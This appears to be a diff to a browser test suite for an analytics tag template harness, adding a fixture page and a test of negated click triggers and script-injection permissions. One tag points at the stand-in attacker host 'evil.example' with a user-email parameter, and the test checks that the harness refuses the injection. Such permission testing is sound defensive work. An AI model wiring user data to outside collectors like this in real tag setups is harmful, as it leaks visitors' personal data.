@@ -40,11 +40,20 @@ ${HARNESS}
 <a id="docs" href="/docs">Docs</a>
 <script>document.addEventListener('click', (event) => event.preventDefault())</script>`
 
+const MANUAL_PAGE = `<!doctype html><meta charset="utf-8"><title>Manual</title>
+<script>window.dataLayer = [{ user_email: 'client@example.com' }]</script>
+<script src="/gtm-harness.js"></script>
+<button id="keep">Keep</button><button id="skip" class="skip">Skip</button>`
+
 let server: FixtureServer
 let browser: Browser
 
 t.before(async () => {
-  server = await startFixtureServer({ '/cabinet/password': ACCOUNT_PAGE, '/consent': CONSENT_PAGE })
+  server = await startFixtureServer({
+    '/cabinet/password': ACCOUNT_PAGE,
+    '/consent': CONSENT_PAGE,
+    '/manual': MANUAL_PAGE
+  })
   browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: CHROMIUM_ARGS })
 })
 
@@ -141,6 +150,76 @@ t.test('commands wait for analytics consent and are released in order', async (t
       command({ command: 'link', url: `${server.origin}/docs`, text: 'Docs' })
     ],
     'the held page and link commands go out in order'
+  )
+  await page.close()
+})
+
+t.test('a hand-made container: negated conditions, and permissions enforced from the .tpl', async (t) => {
+  const page = await browser.newPage()
+  await page.goto(`${server.origin}/manual`)
+  const firings = await page.evaluate(async () => {
+    const container = await (await fetch('/container.json')).json()
+    const tpl = await (await fetch('/template.tpl')).text()
+    const version = container.containerVersion
+    const template = version.tag[0]
+    const param = (key: string, value: string) => ({ type: 'TEMPLATE', key, value })
+    const tag = (name: string, trigger: string, collector: string) => ({
+      ...template,
+      name,
+      firingTriggerId: [trigger],
+      parameter: [
+        param('collectorUrl', collector),
+        param('serviceId', '3'),
+        param('action', 'button'),
+        param('email', '{{Visitlog - user email}}'),
+        { type: 'BOOLEAN', key: 'consentCheck', value: 'true' }
+      ]
+    })
+    version.trigger = [
+      {
+        triggerId: '1',
+        name: 'not skip',
+        type: 'CLICK',
+        filter: [
+          {
+            type: 'CONTAINS',
+            parameter: [
+              { type: 'TEMPLATE', key: 'arg0', value: '{{Click Classes}}' },
+              { type: 'TEMPLATE', key: 'arg1', value: 'skip' },
+              { type: 'BOOLEAN', key: 'negate', value: 'true' }
+            ]
+          }
+        ]
+      }
+    ]
+    version.tag = [tag('allowed', '1', location.origin), tag('elsewhere', '1', 'https://evil.example')]
+    ;(window as any).visitlogHarness.start({ container, tpl })
+    document.getElementById('skip')!.click()
+    document.getElementById('keep')!.click()
+    return (window as any).visitlogHarness.firings
+  })
+  t.same(
+    firings.map((f: any) => [f.tag, f.event]),
+    [
+      ['allowed', 'gtm.click'],
+      ['elsewhere', 'gtm.click']
+    ],
+    'the negated condition skips the .skip button and fires for the other'
+  )
+  t.equal(firings[1].status, 'exception')
+  t.equal(firings[1].error, 'permission denied: inject_script https://evil.example/assets/v1/vl.js')
+  t.same(
+    await queue(page, 2),
+    [
+      command({ command: 'button', text: 'Keep', url: `${server.origin}/manual` }),
+      command({
+        command: 'button',
+        text: 'Keep',
+        url: `${server.origin}/manual`,
+        collector: 'https://evil.example'
+      })
+    ],
+    'the command is queued before the refused injection, as the template intends'
   )
   await page.close()
 })
